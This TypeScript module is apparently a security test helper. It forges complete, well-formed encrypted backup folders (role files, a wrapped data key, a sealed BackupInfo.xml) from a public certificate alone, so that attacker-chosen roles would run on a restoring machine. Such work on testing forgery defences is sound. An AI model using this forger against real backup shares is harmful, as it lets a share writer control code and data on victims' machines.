import { execFileSync } from 'node:child_process';
import { constants, createCipheriv, createHash, createHmac, publicEncrypt, randomBytes, randomUUID, X509Certificate } from 'node:crypto';
import { promises as fs } from 'node:fs';
import path from 'node:path';
import { hkdf, sealedFileKey, sealedNonce, u32 } from './sealed-file.js';

/**
 * An attacker's writer of backups, written from docs/FORMAT.md alone (not the product's code): it
 * holds what anyone with write access to the share holds, the public .cer, and makes a backup that
 * is well formed in every byte the format describes. A product that restores it lets a share writer
 * decide what runs and where data goes on the restoring machine.
 */

export interface ForgedRole {
  name: string;
  /** The role's <Definition> element, as XML. */
  definitionXml: string;
  /** The plaintext the role's data stream holds (a tar archive for directory roles, anything for command roles). */
  data: Buffer;
}

export interface ForgeOptions {
  share: string;
  cerPath: string;
  roles: ForgedRole[];
  /** 1 (no stamp binding) or 2 (stamp bound). Either way, no authenticator: the attacker cannot make one. */
  formatVersion: 1 | 2;
  created?: Date;
}

/** FORMAT.md section 4: zstd, then AES-256-GCM chunks under a key bound to backup, role and file. */
function roleFile(dataKey: Buffer, backup: string, role: string, file: string, plaintext: Buffer): Buffer {
  const compressed = execFileSync('zstd', ['-1', '-q', '-c'], { input: plaintext });
  const chunkSize = 1 << 20;
  const salt = randomBytes(32);
  const header = Buffer.concat([Buffer.from('AZSCHUNK'), Buffer.from([1, 1, 0, 0]), u32(chunkSize), salt]);
  const fileKey = sealedFileKey(dataKey, salt, backup, role, file);
  const pieces = [header];
  const count = Math.max(1, Math.ceil(compressed.length / chunkSize));
  for (let i = 0; i < count; i++) {
    const nonce = sealedNonce(i, i === count - 1);
    const cipher = createCipheriv('aes-256-gcm', fileKey, nonce);
    cipher.setAAD(header);
    pieces.push(cipher.update(compressed.subarray(i * chunkSize, (i + 1) * chunkSize)), cipher.final(), cipher.getAuthTag());
  }
  return Buffer.concat(pieces);
}

const stampOf = (d: Date): string =>
  d
    .toISOString()
    .replace(/[-:]/g, '')
    .replace(/\.\d+Z$/, 'Z');

/** Writes a complete, committed backup folder; returns its name and folder. */
export async function forgeBackup(o: ForgeOptions): Promise<{ name: string; folder: string }> {
  const cert = new X509Certificate(await fs.readFile(o.cerPath));
  const thumbprint = createHash('sha1').update(cert.raw).digest('hex').toUpperCase();
  const name = randomUUID();
  const created = o.created ?? new Date(Date.now() - 60_000);
  const stamp = stampOf(created);
  const folder = path.join(o.share, 'MASBackup', stamp, name);
  await fs.mkdir(folder, { recursive: true });
  const dataKey = randomBytes(32);
  const wrapped = publicEncrypt({ key: cert.publicKey, padding: constants.RSA_PKCS1_OAEP_PADDING, oaepHash: 'sha256' }, dataKey);

  const roles: string[] = [];
  for (const role of o.roles) {
    const fileName = `${role.name}.azsrole`;
    const stored = roleFile(dataKey, name, role.name, fileName, role.data);
    await fs.writeFile(path.join(folder, fileName), stored);
    const sha = createHash('sha256').update(stored).digest('hex');
    roles.push(`    <Role Name="${role.name}" Status="Succeeded" Size="${role.data.length}" DurationMs="5">
      ${role.definitionXml}
      <File Name="${fileName}" Size="${stored.length}" Sha256="${sha}"/>
    </Role>`);
  }
  const signed = `<?xml version="1.0" encoding="utf-8"?>
<BackupInfo xmlns="urn:azsbackup:backupinfo:1" FormatVersion="${o.formatVersion}">
  <Name>${name}</Name>
  <Status>Succeeded</Status>
  <CreatedDateTime>${created.toISOString()}</CreatedDateTime>
  <CompletedDateTime>${new Date(created.getTime() + 5000).toISOString()}</CompletedDateTime>
  <BackupDataVersion>1.0</BackupDataVersion>
  <Encryption Cipher="AES-256-GCM" ChunkSize="1048576" Compression="zstd-1">
    <Recipient Kind="Certificate" Id="${thumbprint}" Algorithm="RSA-OAEP-SHA256">${wrapped.toString('base64')}</Recipient>
  </Encryption>
  <Roles>
${roles.join('\n')}
  </Roles>
  `;
  const macInfo = o.formatVersion === 1 ? `AzsBackup BackupInfo v1\0${name}` : `AzsBackup BackupInfo v2\0${stamp}\0${name}`;
  const macKey = hkdf(dataKey, Buffer.alloc(0), Buffer.from(macInfo));
  const digest = createHash('sha256').update(signed).digest('hex');
  const mac = createHmac('sha256', macKey).update(signed).digest('hex');
  await fs.writeFile(path.join(folder, 'BackupInfo.xml'), `${signed}<Seal Digest="${digest}" Mac="${mac}"/>\n</BackupInfo>\n`);
  return { name, folder };
}

/** A tar archive of one file, made by tar itself: what a directory role's data stream holds. */
export async function tarOf(dir: string): Promise<Buffer> {
  return execFileSync('tar', ['-C', dir, '-cf', '-', '.']);
}
